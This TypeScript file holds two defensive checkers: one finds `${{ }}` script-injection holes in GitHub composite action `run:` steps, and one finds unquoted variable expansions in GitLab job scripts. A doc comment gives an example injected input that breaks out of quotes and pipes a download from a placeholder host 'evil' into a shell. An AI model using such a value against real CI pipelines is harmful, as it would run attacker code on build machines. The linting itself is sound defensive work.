import { parse } from "yaml";

/**
 * Script-injection holes in a composite action.yml: any `${{ }}` inside a `run:` script. The runner
 * pastes an expression's value into the script's text before bash reads it, so an input such as
 * `x"; curl evil | sh; "` becomes code; values must reach a script through `env:` instead, where
 * they are data. Returns one line per hole, naming the step.
 */
export function actionInjectionHoles(actionYaml: string): string[] {
  const doc = parse(actionYaml) as { runs?: { steps?: Array<{ name?: string; run?: unknown }> } };
  const holes: string[] = [];
  for (const [i, step] of (doc.runs?.steps ?? []).entries()) {
    if (typeof step.run !== "string") continue;
    for (const m of step.run.matchAll(/\$\{\{.*?\}\}/gs))
      holes.push(`step ${i + 1} (${step.name ?? "unnamed"}): ${m[0]} inside run:`);
  }
  return holes;
}

/**
 * Unquoted variable expansions in a GitLab job's script lines: `$X` outside double quotes is split
 * into words and glob-expanded by the shell, so a value with spaces or `*` changes the command.
 * Returns one line per expansion outside "..." (single-quoted text is not expanded at all).
 */
export function unquotedExpansions(lines: string[]): string[] {
  const found: string[] = [];
  for (const line of lines) {
    let quote: '"' | "'" | undefined;
    for (let i = 0; i < line.length; i++) {
      const c = line[i];
      if (c === "\\" && quote !== "'") i++;
      else if ((c === '"' || c === "'") && (quote === undefined || quote === c))
        quote = quote ? undefined : c;
      else if (c === "$" && quote === undefined && /[A-Za-z_{]/.test(line[i + 1] ?? ""))
        found.push(`${line.trim()}: unquoted ${/^\$\{?[A-Za-z_][A-Za-z0-9_]*\}?/.exec(line.slice(i))?.[0]}`);
    }
  }
  return found;
}
